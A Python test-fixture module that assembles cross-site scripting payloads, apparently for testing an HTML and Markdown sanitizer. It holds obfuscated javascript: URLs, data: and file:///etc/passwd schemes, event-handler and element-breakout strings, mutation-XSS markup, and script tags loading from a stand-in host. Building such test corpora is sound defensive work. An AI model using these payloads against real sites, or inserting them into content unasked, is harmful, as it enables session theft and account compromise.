"""Text that would be markup or an address: it runs `alert(1)`, or asks canary.example for something."""

RUN = "alert(1)"
CANARY = "https://canary.example/"

# One address that runs, spelled so that a search for "javascript:" does not find it but a browser might.
_SPELLINGS = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}",
    f"java\r\nscript:{RUN}", f"javascript\t:{RUN}", f"\x01javascript:{RUN}", f"java\0script:{RUN}",
    f"&#x6a;avascript:{RUN}", f"&#106avascript:{RUN}", f"javascript&colon;{RUN}", f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}", f"%6aavascript:{RUN}", f"java%0ascript:{RUN}", f"\\6aavascript:{RUN}",
    f"\uff4aavascript:{RUN}", f"java\u00adscript:{RUN}", f"\u2028javascript:{RUN}", f"javascript://%0a{RUN}",
    f"javascript:/*--></title></style></textarea></script>*/{RUN}",
)  # fmt: skip
# Addresses of other kinds that run, that read what is not the web's, or that start a programme.
_SCHEMES = (
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>", "vbscript:msgbox(1)",
    f"livescript:{RUN}", f"mocha:{RUN}", "file:///etc/passwd", "blob:https://canary.example/1", "about:blank",
    "filesystem:https://canary.example/x", "intent://canary.example#Intent;scheme=https;end",
    f"view-source:javascript:{RUN}", f"feed:javascript:{RUN}", f"jar:{CANARY}!/x.html", "ms-msdt:/id x",
    "chrome://settings", "//canary.example/", "\\\\canary.example\\share", "https:canary.example", "http://[::1",
    "https://a:b@canary.example:99999/", "https://canary.example\\@127.0.0.1/",
)  # fmt: skip
# Where Markdown and HTML take an address.
_WRAPPINGS = (
    "[x]({})", "[x](<{}>)", '![x]({} "t")', "<{}>", "[x]: {}\n\n[x]", '<a href="{}">x</a>',
)  # fmt: skip

_HANDLERS = (
    "onclick", "onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart",
)  # fmt: skip
# Elements whose content is not markup: what stands in one may end it.
_RAW = (
    "script", "style", "title", "textarea", "noscript", "xmp", "iframe", "noembed", "template", "select",
    "plaintext",
)  # fmt: skip

MARKUP: dict[str, list[str]] = {
    "addresses that run": [
        *(wrapping.format(one) for one in _SPELLINGS for wrapping in _WRAPPINGS[::3]),
    ],
    "addresses of other kinds": [
        *(wrapping.format(one) for one in _SCHEMES for wrapping in _WRAPPINGS[::2]),
    ],
    # As the website of somebody who comments: each is one, or looks like one.
    "websites": [
        *_SPELLINGS, *_SCHEMES[-8:], f"https://canary.example/\"onmouseover={RUN}",
        f"https://x/'><script>{RUN}</script>",
        "HTTP://canary.example", "https://canary.example/\u202egnp.exe", "https://\u0430pple.example/",
        "http://" + "a" * 250,
    ],
    # Elements that run by themselves, or as soon as somebody touches them.
    "elements": [
        f"<script>{RUN}</script>", f"<ScRiPt >{RUN}</sCrIpT >", f"<script src={CANARY}x.js></script>",
        f"<svg onload={RUN}>", f"<svg/onload={RUN}//", f"<body onload={RUN}>",
        f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<object data='javascript:{RUN}'></object>",
        f"<embed src='javascript:{RUN}'>", f"<base href='{CANARY}'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", f"<link rel=stylesheet href={CANARY}x.css>",
        f"<form action=javascript:{RUN}><button>x</button></form>",
        f"<button formaction=javascript:{RUN}>x</button>", f"<isindex action=javascript:{RUN} type=image>",
        f"<video><source onerror={RUN}></video>", f"<image src=x onerror={RUN}>", f"<a href=# onclick={RUN}>x</a",
        f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<!--><script>{RUN}</script>",
        f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml ?><script>{RUN}</script>",
        f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]>&y;", f"<img src={CANARY}x.png>",
        f"<img srcset='{CANARY}x 1x'>",
    ],
    "handlers": [
        *(f"<x {handler}={RUN} tabindex=0 autofocus style=display:block>y</x>" for handler in _HANDLERS),
        *(f'" {handler}="{RUN}' for handler in _HANDLERS), *(f"' {handler}={RUN} x='" for handler in _HANDLERS[:4]),
        *(f"` {handler}={RUN} x=`" for handler in _HANDLERS[:2]),
    ],
    # Text that leaves the element or the string that it is set in.
    "ends of elements": [
        *(f"</{name}><img src=x onerror={RUN}>" for name in _RAW),
        *(f"<{name}></{name}><script>{RUN}</script>" for name in _RAW[:6]), "-->", "--!>", "<!--", "]]>",
        "</p></article></main></body></html>", "</a></li></ol>", "\"></div>", "'/>", "%>", "?>", f"\\\";{RUN}//",
        f"';{RUN}//", f"</script><script>{RUN}</script>", f"\\u003c/script\\u003e<!--<script>{RUN}",
    ],
    # Markup that a parser repairs into other markup when it is read a second time.
    "mutations": [
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
        f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
        f"<svg><p><style><g title=\"</style><img src=x onerror={RUN}>\">",
        f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
        f"<select><template><img src=x onerror={RUN}></template></select>",
        f"<table><td><form><table></table><script>{RUN}</script></form>",
        f"<math><annotation-xml encoding=text/html><script>{RUN}</script>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
        f"<svg><![CDATA[><img src=x onerror={RUN}>]]>", f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
        f"<svg><desc><noembed></desc><img src=x onerror={RUN}></noembed>",
        f"<template><style></template><img src=x onerror={RUN}></style>",
        f"<xmp><svg><b><a title=\"</xmp><img src=x onerror={RUN}>\">", f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&amp;lt;script&amp;gt;{RUN}", f"&#60;img src=x onerror={RUN}&#62;", f"&LT;img src=x onerror={RUN}&GT;",
        f"<a><table><a href=javascript:{RUN}>x", f"<b><p></b><script>{RUN}</script>",
        f"<ruby><rt><script>{RUN}</script></ruby>",
    ],
    # Where Markdown itself may be brought to make what was not meant.
    "markdown": [
        f"[a](javascript:{RUN}//https://example.org)", f"[a]: <javascript:{RUN}>\n[a]",
        f"[a](https://example.org \"\" onclick={RUN} \")", f"![a](media:1 '\"><script>{RUN}</script>')",
        f"![\"onerror=\"{RUN}](media:1)", f"[![a](javascript:{RUN})](javascript:{RUN})",
        f"``` \"><script>{RUN}</script>\ncode\n```", f"~~~ x onclick={RUN}\ncode\n~~~", f"`<script>{RUN}</script>`",
        "[a](<https://example.org\nb>)", f"<https://example.org/\"onclick={RUN}>",
        f"<https://example.org/?'><script>{RUN}</script>>", "<mailto:x@canary.example?subject=<b>>",
        f"[a][b]\n\n[b]: https://example.org '\"><img src=x onerror={RUN}>'",
        f"| a |\n|:--{RUN}:|\n| <script>{RUN}</script> |", "[[[[[[[[a](b)](c)](d)](e)](f)",
        f"[a](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{RUN})", f"[a](\\javascript:{RUN})",
        f"[a](javascript\\:{RUN})", f"<div>\n\n[a](javascript:{RUN})\n\n</div>", f"#tag<script>{RUN}</script>",
        "#\"onclick=x", "#../../etc", "#tag\u200c\u200d", "> > > > > > > > > > > > > > > > deep", "*_*_*_*_*_*_*_*_",
        "1. " * 40 + "x", "99999999999. x", "- [ ] x\n\t- y\n\t\t- z", "a  \nb\\\nc", "***bold***~~x~~`", "\\<b\\>",
        "&copy; &nbsp; &NotAnEntity; &#0; &#x110000;",
    ],
}  # fmt: skip
